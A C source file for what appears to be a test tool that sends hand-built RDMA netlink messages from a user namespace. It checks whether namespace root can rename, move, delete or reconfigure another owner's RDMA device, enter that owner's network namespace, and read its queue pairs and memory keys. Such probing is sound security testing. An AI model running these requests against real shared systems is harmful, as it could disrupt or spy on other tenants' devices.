/*
 * Tries to change or read an RDMA device that is another's, by netlink: what a user can send who makes himself root.
 *
 *   netadmin index DEVICE                          print the index by which the kernel knows a device seen from here
 *   netadmin read [user] [net] INDEX               what the kernel tells of its use
 *   netadmin change [user] [net] INDEX PORT PID    PORT is an index of a network interface, PID a process of its owner's
 *
 * `user` makes a user namespace first, where the caller is root with all capabilities; `net` a network namespace
 * besides. Prints a line for each attempt: its name, and "ok" or the name of the kernel's error. The messages are
 * packed here, because the `rdma` tool sends none for a device that it is not shown.
 * Source: include/uapi/rdma/rdma_netlink.h, drivers/infiniband/core/nldev.c.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <rdma/rdma_netlink.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* Newer than the headers of Debian 12. */
#define CMD_NEWDEV 26
#define ATTR_DEV_TYPE 99
#define SYS_ATTR_PRIVILEGED_QKEY_MODE 96

struct request {
	struct nlmsghdr head;
	char body[512];
};

static struct request request;

static void begin(int type, int flags)
{
	memset(&request, 0, sizeof(request));
	request.head.nlmsg_type = type;
	request.head.nlmsg_flags = NLM_F_REQUEST | flags;
	request.head.nlmsg_len = NLMSG_HDRLEN;
}

static void begin_rdma(int command, int flags)
{
	begin(RDMA_NL_GET_TYPE(RDMA_NL_NLDEV, command), flags);
}

static void put(int kind, const void *value, size_t size)
{
	struct nlattr *attribute = (void *)((char *)&request + NLMSG_ALIGN(request.head.nlmsg_len));

	attribute->nla_type = kind;
	attribute->nla_len = NLA_HDRLEN + size;
	memcpy(attribute + 1, value, size);
	request.head.nlmsg_len = NLMSG_ALIGN(request.head.nlmsg_len) + NLA_ALIGN(attribute->nla_len);
}

static void put_number(int kind, unsigned int value)
{
	put(kind, &value, sizeof(value));
}

static void put_text(int kind, const char *text)
{
	put(kind, text, strlen(text) + 1);
}

/* Whether a table of resources, or one of its rows, has an attribute. */
static int has(const char *body, int size, int wanted)
{
	while (size >= NLA_HDRLEN) {
		const struct nlattr *attribute = (const void *)body;
		int length = attribute->nla_len, kind = attribute->nla_type & NLA_TYPE_MASK;

		if (length < NLA_HDRLEN || length > size)
			break;
		if (kind == wanted)
			return 1;
		if (kind == RDMA_NLDEV_ATTR_RES_QP || kind == RDMA_NLDEV_ATTR_RES_QP_ENTRY ||
		    kind == RDMA_NLDEV_ATTR_RES_MR || kind == RDMA_NLDEV_ATTR_RES_MR_ENTRY)
			if (has(body + NLA_HDRLEN, length - NLA_HDRLEN, wanted))
				return 1;
		body += NLA_ALIGN(length);
		size -= NLA_ALIGN(length);
	}
	return 0;
}

/*
 * Send the request and take the answer. With `wanted` it is a dump, and ENODATA if no row has that attribute.
 * `name` is filled with a device's name, if given. Returns 0 or an errno.
 */
static int ask(int protocol, int wanted, const char *name, unsigned int *index)
{
	static char answer[65536];
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, protocol), found = 0, result = -1;

	if (fd < 0)
		return errno;
	if (send(fd, &request, request.head.nlmsg_len, 0) < 0)
		result = errno;
	while (result < 0) {
		int length = recv(fd, answer, sizeof(answer), 0);

		if (length < 0)
			result = errno;
		for (struct nlmsghdr *one = (void *)answer; result < 0 && NLMSG_OK(one, (unsigned int)length);
		     one = NLMSG_NEXT(one, length)) {
			const char *body = NLMSG_DATA(one);
			int size = one->nlmsg_len - NLMSG_HDRLEN;

			if (one->nlmsg_type == NLMSG_ERROR) {
				result = -((const struct nlmsgerr *)NLMSG_DATA(one))->error;
			} else if (one->nlmsg_type == NLMSG_DONE) {
				/* A dump that fails at its first row ends with the error. */
				int status = size >= (int)sizeof(int) ? *(const int *)body : 0;

				result = status < 0 ? -status : found ? 0 : ENODATA;
			} else if (name) {
				/* The index comes first, then the name. */
				const struct nlattr *first = (const void *)body;
				const struct nlattr *second = (const void *)(body + NLA_ALIGN(first->nla_len));

				if (!strcmp((const char *)(second + 1), name)) {
					*index = *(const unsigned int *)(first + 1);
					found = 1;
				}
			} else if (wanted) {
				found |= has(body, size, wanted);
			}
		}
	}
	close(fd);
	return result;
}

static void tell(const char *what, int error)
{
	printf("%s %s\n", what, error ? strerrorname_np(error) : "ok");
	fflush(stdout);
}

static void change(const char *what)
{
	request.head.nlmsg_flags |= NLM_F_ACK;
	tell(what, ask(NETLINK_RDMA, 0, NULL, NULL));
}

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC), error = fd < 0 || write(fd, text, strlen(text)) < 0;

	close(fd);
	return error;
}

static void become_root(void)
{
	char uids[64], gids[64];

	snprintf(uids, sizeof(uids), "0 %u 1", geteuid());
	snprintf(gids, sizeof(gids), "0 %u 1", getegid());
	if (unshare(CLONE_NEWUSER)) {
		perror("unshare");
		exit(2);
	}
	/* Root in a container may not map himself (he has no CAP_SETFCAP). The capabilities are there without a map. */
	write_file("/proc/self/setgroups", "deny");
	write_file("/proc/self/uid_map", uids);
	write_file("/proc/self/gid_map", gids);
}

static void take_interface(int ifindex, int here)
{
	struct ifinfomsg info = {.ifi_family = AF_UNSPEC, .ifi_index = ifindex};

	begin(RTM_NEWLINK, NLM_F_ACK);
	memcpy(request.body, &info, sizeof(info));
	request.head.nlmsg_len += sizeof(info);
	put_number(IFLA_NET_NS_FD, here);
	tell("interface", ask(NETLINK_ROUTE, 0, NULL, NULL));
}

static void enter(const char *pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/ns/net", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	tell("enter", fd < 0 || setns(fd, CLONE_NEWNET) ? errno : 0);
}

/* Those that leave less to change come last. */
static void changes(unsigned int device, int ifindex, const char *pid)
{
	int here = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
	/* Of a device: a part for management (SMI). Of the modes: shared; whoever wants uses privileged keys. */
	unsigned char one = 1;

	begin_rdma(RDMA_NLDEV_CMD_SET, 0);
	put_number(RDMA_NLDEV_ATTR_DEV_INDEX, device);
	put_text(RDMA_NLDEV_ATTR_DEV_NAME, "stolen");
	change("rename");
	begin_rdma(RDMA_NLDEV_CMD_STAT_SET, 0);
	put_number(RDMA_NLDEV_ATTR_DEV_INDEX, device);
	put_number(RDMA_NLDEV_ATTR_PORT_INDEX, 1);
	put_number(RDMA_NLDEV_ATTR_STAT_MODE, RDMA_COUNTER_MODE_AUTO);
	put_number(RDMA_NLDEV_ATTR_STAT_RES, RDMA_NLDEV_ATTR_RES_QP);
	put_number(RDMA_NLDEV_ATTR_STAT_AUTO_MODE_MASK, RDMA_COUNTER_MASK_QP_TYPE);
	change("count");
	begin_rdma(CMD_NEWDEV, 0);
	put_number(RDMA_NLDEV_ATTR_DEV_INDEX, device);
	put_text(RDMA_NLDEV_ATTR_DEV_NAME, "beside");
	put(ATTR_DEV_TYPE, &one, 1);
	change("divide");
	begin_rdma(RDMA_NLDEV_CMD_NEWLINK, 0);
	put_text(RDMA_NLDEV_ATTR_DEV_NAME, "evil");
	put_text(RDMA_NLDEV_ATTR_LINK_TYPE, "rxe");
	put_text(RDMA_NLDEV_ATTR_NDEV_NAME, "lo");
	change("add");
	begin_rdma(RDMA_NLDEV_CMD_SYS_SET, 0);
	put(RDMA_NLDEV_SYS_ATTR_NETNS_MODE, &one, 1);
	change("mode");
	begin_rdma(RDMA_NLDEV_CMD_SYS_SET, 0);
	put(SYS_ATTR_PRIVILEGED_QKEY_MODE, &one, 1);
	change("qkeys");
	begin_rdma(RDMA_NLDEV_CMD_RES_QP_GET_RAW, NLM_F_DUMP);
	put_number(RDMA_NLDEV_ATTR_DEV_INDEX, device);
	tell("raw", ask(NETLINK_RDMA, RDMA_NLDEV_ATTR_RES_QP, NULL, NULL));
	begin_rdma(RDMA_NLDEV_CMD_SET, 0);
	put_number(RDMA_NLDEV_ATTR_DEV_INDEX, device);
	put_number(RDMA_NLDEV_NET_NS_FD, here);
	change("move");
	take_interface(ifindex, here);
	begin_rdma(RDMA_NLDEV_CMD_DELLINK, 0);
	put_number(RDMA_NLDEV_ATTR_DEV_INDEX, device);
	change("remove");
	enter(pid);
	close(here);
}

/* Who has queue pairs, with their numbers and those of their packets; keys of registered memory. */
static void reads(unsigned int device)
{
	begin_rdma(RDMA_NLDEV_CMD_RES_QP_GET, NLM_F_DUMP);
	put_number(RDMA_NLDEV_ATTR_DEV_INDEX, device);
	tell("pairs", ask(NETLINK_RDMA, RDMA_NLDEV_ATTR_RES_PID, NULL, NULL));
	begin_rdma(RDMA_NLDEV_CMD_RES_MR_GET, NLM_F_DUMP);
	put_number(RDMA_NLDEV_ATTR_DEV_INDEX, device);
	tell("keys", ask(NETLINK_RDMA, RDMA_NLDEV_ATTR_RES_RKEY, NULL, NULL));
}

int main(int count, char **words)
{
	unsigned int device = 0;
	int first = 2;

	if (count == 3 && !strcmp(words[1], "index")) {
		begin_rdma(RDMA_NLDEV_CMD_GET, NLM_F_DUMP);
		if (ask(NETLINK_RDMA, 0, words[2], &device))
			return 1;
		printf("%u\n", device);
		return 0;
	}
	if (first < count && !strcmp(words[first], "user") && first++)
		become_root();
	if (first < count && !strcmp(words[first], "net") && first++ && unshare(CLONE_NEWNET)) {
		perror("unshare");
		return 2;
	}
	if (count == first + 1 && !strcmp(words[1], "read")) {
		reads(strtoul(words[first], NULL, 10));
	} else if (count == first + 3 && !strcmp(words[1], "change")) {
		changes(strtoul(words[first], NULL, 10), atoi(words[first + 1]), words[first + 2]);
	} else {
		fprintf(stderr, "usage: see netadmin.c\n");
		return 2;
	}
	return 0;
}
